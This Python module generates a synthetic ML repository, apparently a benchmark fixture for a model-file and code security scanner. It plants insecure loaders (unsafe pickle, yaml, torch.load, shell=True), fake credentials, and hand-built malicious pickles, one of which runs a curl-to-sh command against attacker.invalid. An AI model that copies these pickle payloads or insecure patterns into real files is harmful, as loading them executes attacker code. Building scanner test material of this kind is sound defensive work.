"""The synthetic ML repository, generated from a fixed seed."""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

# --- the synthetic ML repo ----------------------------------------------------------------

NOUNS = (
    "churn",
    "fraud",
    "credit",
    "sensor",
    "image",
    "text",
    "click",
    "session",
    "user",
    "item",
    "price",
    "demand",
    "weather",
    "traffic",
    "audio",
    "signal",
    "claim",
    "loan",
    "patient",
    "review",
)
PACKAGES = (
    "data",
    "features",
    "models",
    "training",
    "evaluation",
    "serving",
    "monitoring",
    "tuning",
    "pipelines",
    "utils",
    "vision",
    "nlp",
    "tabular",
    "timeseries",
    "recsys",
    "audio",
    "registry",
    "experiments",
    "storage",
    "viz",
)
ROLES = (
    "loader",
    "transform",
    "model",
    "trainer",
    "metrics",
    "split",
    "encoder",
    "scaler",
    "sampler",
    "report",
    "schema",
    "config",
    "store",
    "export",
    "callbacks",
    "ensemble",
    "calibration",
    "drift",
    "features",
    "pipeline",
)
COLUMNS = ("age", "tenure", "balance", "amount", "score", "label", "clicks", "duration", "price")
SUFFIXES = ("Classifier", "Regressor", "Encoder", "Net", "Model", "Ranker")
PINS = (
    "numpy==1.21.0",
    "pandas==1.3.5",
    "scikit-learn==0.24.2",
    "scipy==1.7.3",
    "torch==1.13.1",
    "torchvision==0.14.1",
    "transformers==4.30.2",
    "tokenizers==0.13.3",
    "PyYAML==5.3.1",
    "requests==2.25.1",
    "urllib3==1.26.5",
    "Pillow==9.0.1",
    "matplotlib==3.5.3",
    "seaborn==0.12.2",
    "tqdm==4.64.1",
    "joblib==1.1.0",
    "mlflow==2.8.0",
    "aiohttp==3.8.4",
    "Jinja2==3.1.2",
    "protobuf==3.20.1",
    "tensorflow==2.11.0",
    "lightgbm==3.3.5",
    "xgboost==1.7.6",
    "onnx==1.13.0",
    "gradio==3.34.0",
    "fastapi==0.95.2",
    "uvicorn==0.22.0",
    "pydantic==1.10.7",
    "notebook==6.4.8",
    "ipykernel==6.22.0",
)
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

# Code blocks of an ML module. Placeholders: {noun} {cls} {col} and numbers.
BLOCKS: Mapping[str, tuple[tuple[str, ...], str]] = {
    "load_frame": (
        ("import pandas as pd", "from pathlib import Path"),
        '''
def load_{noun}_frame(path: str | Path, columns: list[str] | None = None) -> pd.DataFrame:
    """Read the {noun} table and drop rows without a label."""
    frame = pd.read_csv(path, usecols=columns)
    frame = frame.dropna(subset=["{col}"])
    logger.info("loaded %d rows from %s", len(frame), path)
    return frame
''',
    ),
    "normalise": (
        ("import numpy as np",),
        '''
def normalise_{noun}(values: np.ndarray, eps: float = {eps}) -> np.ndarray:
    """Standardise each column; eps keeps constant columns finite."""
    mean = values.mean(axis=0, keepdims=True)
    std = values.std(axis=0, keepdims=True)
    return (values - mean) / (std + eps)
''',
    ),
    "module": (
        ("import torch", "import torch.nn as nn"),
        '''
class {cls}(nn.Module):
    """A small feed-forward network for {noun} data."""

    def __init__(self, in_features: int = {n}, hidden: int = {h}, dropout: float = {p}) -> None:
        super().__init__()
        self.net = nn.Sequential(
            nn.Linear(in_features, hidden),
            nn.ReLU(),
            nn.Dropout(dropout),
            nn.Linear(hidden, {k}),
        )

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)
''',
    ),
    "train": (
        ("import torch", "import torch.nn as nn", "from typing import Any"),
        '''
def train_{noun}(model: nn.Module, loader: Any, epochs: int = {e}, lr: float = {lr}) -> list[float]:
    """Plain training loop; returns the mean loss of each epoch."""
    optimizer = torch.optim.Adam(model.parameters(), lr=lr)
    loss_fn = nn.CrossEntropyLoss()
    history: list[float] = []
    for epoch in range(epochs):
        total = 0.0
        for features, labels in loader:
            optimizer.zero_grad()
            loss = loss_fn(model(features), labels)
            loss.backward()
            optimizer.step()
            total += float(loss.item())
        history.append(total / max(1, len(loader)))
        logger.debug("epoch %d loss %.4f", epoch, history[-1])
    return history
''',
    ),
    "evaluate": (
        ("import numpy as np", "from sklearn.metrics import roc_auc_score"),
        '''
def evaluate_{noun}(
    y_true: np.ndarray, scores: np.ndarray, threshold: float = {t}
) -> dict[str, float]:
    """Accuracy at a threshold and the ranking quality of the scores."""
    predicted = (scores >= threshold).astype(int)
    accuracy = float((predicted == y_true).mean())
    auc = float(roc_auc_score(y_true, scores))
    return {{"accuracy": accuracy, "auc": auc, "threshold": threshold}}
''',
    ),
    "config": (
        ("import json", "from dataclasses import dataclass, field"),
        '''
@dataclass
class {cls}Config:
    """Hyper-parameters of the {noun} experiment."""

    learning_rate: float = {lr}
    batch_size: int = {b}
    epochs: int = {e}
    features: list[str] = field(default_factory=lambda: [{cols}])

    def to_json(self) -> str:
        return json.dumps(self.__dict__, sort_keys=True)
''',
    ),
    "split": (
        ("import pandas as pd", "from sklearn.model_selection import train_test_split"),
        '''
def split_{noun}(frame: pd.DataFrame, seed: int = {seed}) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Stratified train/test split."""
    train, test = train_test_split(
        frame, test_size={ts}, random_state=seed, stratify=frame["{col}"]
    )
    return train.reset_index(drop=True), test.reset_index(drop=True)
''',
    ),
    "rolling": (
        ("import pandas as pd",),
        '''
def add_{noun}_rolling(frame: pd.DataFrame, windows: tuple[int, ...] = ({w})) -> pd.DataFrame:
    """Rolling mean and spread of {col} over several windows."""
    out = frame.copy()
    for window in windows:
        out[f"{col}_mean_{{window}}"] = out["{col}"].rolling(window, min_periods=1).mean()
        out[f"{col}_std_{{window}}"] = out["{col}"].rolling(window, min_periods=1).std().fillna(0.0)
    return out
''',
    ),
    "batches": (
        ("from collections.abc import Iterator", "import numpy as np"),
        '''
def iter_{noun}_batches(
    x: np.ndarray, y: np.ndarray, size: int = {b}
) -> Iterator[tuple[np.ndarray, np.ndarray]]:
    """Shuffled mini-batches (the last one may be short)."""
    order = np.random.default_rng({seed}).permutation(len(x))
    for start in range(0, len(order), size):
        chunk = order[start : start + size]
        yield x[chunk], y[chunk]
''',
    ),
    "save_json": (
        ("import json", "from pathlib import Path", "from typing import Any"),
        '''
def save_{noun}_metrics(metrics: dict[str, Any], folder: Path) -> Path:
    """Write metrics next to the model, sorted for stable diffs."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "{noun}_metrics.json"
    target.write_text(json.dumps(metrics, indent=2, sort_keys=True), encoding="utf-8")
    return target
''',
    ),
}

# Hazards a scanner should see (and a few safe variants that it should not flag).
HAZARDS: Mapping[str, tuple[tuple[str, ...], str]] = {
    "pickle": (
        ("import pickle", "from typing import Any"),
        """
def load_{noun}_cache(path: str) -> Any:
    with open(path, "rb") as handle:
        return pickle.load(handle)
""",
    ),
    "yaml": (
        ("import yaml", "from typing import Any"),
        """
def read_{noun}_params(path: str) -> Any:
    with open(path) as handle:
        return yaml.load(handle, Loader=yaml.Loader)
""",
    ),
    "yaml_safe": (
        ("import yaml", "from typing import Any"),
        """
def read_{noun}_params(path: str) -> Any:
    with open(path) as handle:
        return yaml.safe_load(handle)
""",
    ),
    "torch": (
        ("import torch", "from typing import Any"),
        """
def restore_{noun}_checkpoint(path: str) -> Any:
    return torch.load(path, map_location="cpu")
""",
    ),
    "torch_safe": (
        ("import torch", "from typing import Any"),
        """
def restore_{noun}_checkpoint(path: str) -> Any:
    return torch.load(path, map_location="cpu", weights_only=True)
""",
    ),
    "requests": (
        ("import requests", "from typing import Any"),
        """
def fetch_{noun}_manifest(url: str) -> dict[str, Any]:
    response = requests.get(url, timeout=30, verify=False)
    response.raise_for_status()
    return response.json()
""",
    ),
    "shell": (
        ("import subprocess",),
        """
def run_{noun}_job(command: str) -> int:
    return subprocess.call(command, shell=True)
""",
    ),
    "numpy": (
        ("import numpy as np",),
        """
def load_{noun}_array(path: str) -> np.ndarray:
    return np.load(path, allow_pickle=True)
""",
    ),
    "tar": (
        ("import tarfile",),
        """
def unpack_{noun}_archive(path: str, target: str) -> None:
    with tarfile.open(path) as archive:
        archive.extractall(target)
""",
    ),
    "remote_code": (
        ("from typing import Any",),
        """
def load_{noun}_backbone(name: str) -> Any:
    from transformers import AutoModel

    return AutoModel.from_pretrained(name, trust_remote_code=True)
""",
    ),
}


class Synthetic:
    """A seeded, deterministic ML repo: ~2,000 .py files, 50 notebooks, 20 model files."""

    def __init__(self, root: Path, rng: random.Random, quick: bool) -> None:
        self.root = root
        self.rng = rng
        self.modules_per_package = 9 if quick else 94  # 20 packages x (N + __init__)
        self.tests = 8 if quick else 80
        self.scripts = 2 if quick else 20
        self.notebooks = 5 if quick else 50
        self.secret_modules = 2 if quick else 6

    def write(self) -> None:
        self.root.mkdir(parents=True)
        self._text("README.md", "# synthml\n\nA generated ML repository for mlgate's benchmark.\n")
        self._text(".gitignore", "__pycache__/\n*.log\nmlruns/\n")
        self._text("requirements.txt", "# pinned for reproducible training\n" + _lines(PINS))
        self._text("configs/train.yaml", "model: {hidden: 128, dropout: 0.1}\nepochs: 20\n")
        self._text("data/sample.csv", self._csv())
        secrets = set(self.rng.sample(range(len(PACKAGES)), self.secret_modules))
        for index, package in enumerate(PACKAGES):
            self._package(package, with_secret=index in secrets)
        for number in range(self.tests):
            self._text(f"tests/test_{NOUNS[number % len(NOUNS)]}_{number}.py", self._test(number))
        for number in range(self.scripts):
            self._text(f"scripts/run_{NOUNS[number % len(NOUNS)]}_{number}.py", self._script())
        for number in range(self.notebooks):
            notebook = self._notebook(number)
            self._text(f"notebooks/{NOUNS[number % len(NOUNS)]}_{number:02d}.ipynb", notebook)
        for rel, data in self._models():
            self._bytes(f"models/{rel}", data)

    # files

    def _text(self, rel: str, text: str) -> None:
        self._bytes(rel, text.encode("utf-8"))

    def _bytes(self, rel: str, data: bytes) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    def _csv(self) -> str:
        rows = [",".join(COLUMNS)]
        for _ in range(200):
            rows.append(",".join(str(self.rng.randint(0, 999)) for _ in COLUMNS))
        return _lines(rows)

    # python

    def _package(self, package: str, with_secret: bool) -> None:
        base = f"src/synthml/{package}"
        self._text(f"{base}/__init__.py", f'"""synthml.{package}."""\n')
        names: list[str] = []
        for number in range(self.modules_per_package):
            role = ROLES[number % len(ROLES)]
            names.append(f"{self.rng.choice(NOUNS)}_{role}_{number}")
        secret_at = self.rng.randrange(self.modules_per_package) if with_secret else -1
        for number, name in enumerate(names):
            self._text(f"{base}/{name}.py", self._module(package, name, number == secret_at))

    def _module(self, package: str, name: str, with_secret: bool) -> str:
        rng = self.rng
        noun = name.split("_", 1)[0]
        chosen = rng.sample(sorted(BLOCKS), rng.randint(4, 8))
        parts = [BLOCKS[key] for key in chosen]
        if rng.random() < 0.10:
            parts.append(HAZARDS[rng.choice(sorted(HAZARDS))])
        imports = sorted({line for needed, _ in parts for line in needed} | {"import logging"})
        body = [self._fill(template, noun) for _, template in parts]
        head = [
            f'"""{noun.capitalize()} {name.split("_")[1]} for synthml.{package}."""',
            "",
            "from __future__ import annotations",
            "",
            *_stdlib_first(imports),
            "",
            "logger = logging.getLogger(__name__)",
        ]
        if with_secret:
            head += ["", *self._secret_lines()]
        return "\n".join(head) + "\n\n\n" + "\n\n".join(b.strip("\n") + "\n" for b in body)

    def _fill(self, template: str, noun: str) -> str:
        rng = self.rng
        columns = rng.sample(COLUMNS, 3)
        return template.format(
            noun=noun,
            cls=noun.capitalize() + rng.choice(SUFFIXES),
            col=columns[0],
            cols=", ".join(f'"{c}"' for c in columns),
            eps=rng.choice(("1e-8", "1e-6", "1e-12")),
            n=rng.choice((16, 32, 64, 128)),
            h=rng.choice((64, 128, 256)),
            k=rng.choice((2, 3, 10)),
            p=rng.choice((0.1, 0.2, 0.3)),
            e=rng.randint(5, 50),
            lr=rng.choice(("1e-3", "3e-4", "1e-4")),
            t=rng.choice((0.3, 0.5, 0.7)),
            b=rng.choice((32, 64, 128, 256)),
            seed=rng.randint(0, 9999),
            ts=rng.choice((0.1, 0.2, 0.25)),
            w=", ".join(str(w) for w in sorted(rng.sample((3, 7, 14, 30, 90), 3))),
        )

    def _token(self, alphabet: str, length: int) -> str:
        return "".join(self.rng.choice(alphabet) for _ in range(length))

    def _secret_lines(self) -> list[str]:
        """Fake credentials (generated, never real) of the kinds ML repos leak."""
        return [
            "# TODO(ops): move these to the secret store",
            f'WANDB_API_KEY = "{self._token("0123456789abcdef", 40)}"  # wandb logging',
            f'HF_TOKEN = "hf_{self._token(ALNUM, 34)}"',
            f'aws_secret_access_key = "{self._token(ALNUM + "/+", 40)}"',
        ]

    def _test(self, number: int) -> str:
        noun = NOUNS[number % len(NOUNS)]
        cases = []
        for case in range(self.rng.randint(3, 8)):
            size = self.rng.randint(2, 64)
            cases.append(
                f"def test_{noun}_shape_{case}() -> None:\n"
                f"    values = np.arange({size * 4}, dtype=float).reshape({size}, 4)\n"
                f"    scaled = (values - values.mean(axis=0)) / (values.std(axis=0) + 1e-8)\n"
                f"    assert scaled.shape == ({size}, 4)\n"
                f"    assert np.allclose(scaled.mean(axis=0), 0.0, atol=1e-6)\n"
            )
        head = f'"""Tests of the {noun} helpers."""\n\nimport numpy as np\n\n\n'
        return head + "\n\n".join(cases)

    def _script(self) -> str:
        noun = self.rng.choice(NOUNS)
        unsafe = self.rng.random() < 0.3
        call = (
            'subprocess.run(f"python -m synthml.training --data {args.data}", shell=True)'
            if unsafe
            else 'subprocess.run(["python", "-m", "synthml.training", "--data", args.data])'
        )
        return (
            f'"""Train the {noun} model from the command line."""\n\n'
            "import argparse\nimport subprocess\n\n\n"
            "def main() -> None:\n"
            "    parser = argparse.ArgumentParser()\n"
            f'    parser.add_argument("--data", default="data/{noun}.csv")\n'
            "    args = parser.parse_args()\n"
            f"    {call}\n\n\n"
            'if __name__ == "__main__":\n    main()\n'
        )

    # notebooks (nbformat 4.5)

    def _notebook(self, number: int) -> str:
        rng = self.rng
        noun = NOUNS[number % len(NOUNS)]
        count = 0
        cells: list[dict[str, Any]] = [
            self._markdown(f"# {noun.capitalize()} exploration\n\nLoad, train, look at errors.")
        ]

        def code(source: str, outputs: list[dict[str, Any]]) -> None:
            nonlocal count
            count += 1
            for output in outputs:
                if "execution_count" in output:
                    output["execution_count"] = count
            cells.append(
                {
                    "cell_type": "code",
                    "execution_count": count,
                    "id": self._token("0123456789abcdef", 8),
                    "metadata": {},
                    "outputs": outputs,
                    "source": _source(source),
                }
            )

        pin = rng.choice(("pandas", "seaborn==0.12.2", "lightgbm", "shap==0.41.0"))
        code(f"%matplotlib inline\n!pip install -q {pin}", [])
        code(
            "import numpy as np\nimport pandas as pd\nimport matplotlib.pyplot as plt\n"
            "from sklearn.linear_model import LogisticRegression",
            [],
        )
        code(f'df = pd.read_csv("data/{noun}.csv")\ndf.head()', [self._frame_output()])
        for _ in range(rng.randint(3, 8)):
            cells.append(self._markdown(f"## Step on {rng.choice(COLUMNS)}"))
            code(
                f'df["{rng.choice(COLUMNS)}"].hist(bins={rng.randint(10, 60)})\nplt.show()',
                [self._image_output()],
            )
            epochs = rng.randint(3, 12)
            log_lines = "".join(
                f"epoch {e} loss {rng.random():.4f} val_auc {rng.random():.4f}\n"
                for e in range(epochs)
            )
            code(
                f"model = LogisticRegression(C={rng.choice((0.1, 1.0, 10.0))}, max_iter=500)\n"
                f'model.fit(df.drop(columns=["label"]), df["label"])\n'
                f"for epoch in range({epochs}):\n"
                f'    print(f"epoch {{epoch}} loss {{0.5 / (epoch + 1):.4f}}")',
                [{"name": "stdout", "output_type": "stream", "text": _source(log_lines)}],
            )
        if number % 5 == 0:
            code(f'import pickle\nmodel = pickle.load(open("models/{noun}.pkl", "rb"))', [])
        if number % 17 == 3:
            token = "hf_" + self._token(ALNUM, 34)
            code(
                "from huggingface_hub import login\nlogin()",
                [
                    {
                        "name": "stdout",
                        "output_type": "stream",
                        "text": [f"Token is valid: {token}\n", "Login successful\n"],
                    }
                ],
            )
        document = {
            "cells": cells,
            "metadata": {
                "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                "language_info": {"name": "python", "version": "3.11.7"},
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        }
        return json.dumps(document, indent=1, sort_keys=True) + "\n"

    def _markdown(self, text: str) -> dict[str, Any]:
        return {
            "cell_type": "markdown",
            "id": self._token("0123456789abcdef", 8),
            "metadata": {},
            "source": _source(text),
        }

    def _frame_output(self) -> dict[str, Any]:
        header = "   " + "  ".join(f"{c:>8}" for c in COLUMNS[:5])
        rows = [
            f"{i:<3}" + "  ".join(f"{self.rng.randint(0, 999):>8}" for _ in range(5))
            for i in range(5)
        ]
        return {
            "data": {"text/plain": _source("\n".join([header, *rows]))},
            "execution_count": 0,
            "metadata": {},
            "output_type": "execute_result",
        }

    def _image_output(self) -> dict[str, Any]:
        fake_png = b"\x89PNG\r\n\x1a\n" + self.rng.randbytes(self.rng.randint(2000, 6000))
        return {
            "data": {
                "image/png": base64.b64encode(fake_png).decode("ascii") + "\n",
                "text/plain": ["<Figure size 640x480 with 1 Axes>"],
            },
            "metadata": {},
            "output_type": "display_data",
        }

    # model files: crafted bytes, never loaded

    def _models(self) -> Iterator[tuple[str, bytes]]:
        for number in range(8):
            yield f"{NOUNS[number]}_weights.pkl", self._weights_pickle()
        payloads = (
            ("os", "system", "curl -s http://attacker.invalid/x | sh"),
            ("builtins", "eval", "__import__('os').getcwd()"),
            ("posix", "system", "id"),
            ("subprocess", "getoutput", "uname -a"),
        )
        for number, (module, name, arg) in enumerate(payloads):
            yield f"backdoored_{number}.pkl", _reduce_pickle(module, name, arg)
        for number in range(4):
            inner = (
                _reduce_pickle("os", "system", "touch /tmp/pwned")
                if number == 3
                else self._weights_pickle(ordered=True)
            )
            yield f"{NOUNS[10 + number]}_model.pt", self._torch_zip(f"model_{number}", inner)
        for number in range(2):
            yield f"{NOUNS[14 + number]}_pipeline.joblib", self._weights_pickle()
        yield "embeddings.npy", _npy("<f4", (16, 8), self.rng.randbytes(16 * 8 * 4))
        yield "objects.npy", _npy("|O", (1,), _reduce_pickle("os", "system", "id"))

    def _weights_pickle(self, ordered: bool = False) -> bytes:
        weights = [self.rng.uniform(-1, 1) for _ in range(self.rng.randint(16, 64))]
        return _dict_pickle(
            {"weights": weights, "bias": self.rng.uniform(-1, 1), "name": "linear"}, ordered
        )

    def _torch_zip(self, name: str, data_pkl: bytes) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zipped:
            for member, data in (
                (f"{name}/data.pkl", data_pkl),
                (f"{name}/version", b"3\n"),
                (f"{name}/data/0", self.rng.randbytes(512)),
            ):
                zipped.writestr(zipfile.ZipInfo(member, date_time=(2025, 1, 1, 0, 0, 0)), data)
        return buffer.getvalue()


def _lines(items: Sequence[str]) -> str:
    return "".join(f"{item}\n" for item in items)


def _source(text: str) -> list[str]:
    """Notebook source: a list of lines, each but the last keeping its newline."""
    lines = text.splitlines(keepends=True)
    return lines or [""]


def _stdlib_first(imports: Sequence[str]) -> list[str]:
    third = ("numpy", "pandas", "torch", "sklearn", "yaml", "requests")

    def key(line: str) -> tuple[bool, str]:
        return (line.startswith("from "), line.split()[1])

    stdlib = sorted((i for i in imports if not any(f" {t}" in i for t in third)), key=key)
    others = sorted((i for i in imports if i not in stdlib), key=key)
    return [*stdlib, *([""] if stdlib and others else []), *others]


# Pickle opcodes (protocol 2), written by hand so that nothing here ever unpickles.
def _pickle_str(value: str) -> bytes:
    data = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def _pickle_value(value: Any) -> bytes:
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return _pickle_str(value)
    if isinstance(value, list):
        return b"](" + b"".join(_pickle_value(v) for v in value) + b"e"
    raise TypeError(type(value))


def _dict_pickle(items: Mapping[str, Any], ordered: bool) -> bytes:
    start = b"ccollections\nOrderedDict\n)R" if ordered else b"}"
    body = b"".join(_pickle_str(k) + _pickle_value(v) for k, v in items.items())
    return b"\x80\x02" + start + b"(" + body + b"u."


def _reduce_pickle(module: str, name: str, argument: str) -> bytes:
    """GLOBAL module.name, called with one string argument: what a malicious pickle does."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + _pickle_str(argument) + b"\x85R."


def _npy(descr: str, shape: tuple[int, ...], data: bytes) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    padding = 64 - (10 + len(header) + 1) % 64
    header += " " * padding + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data
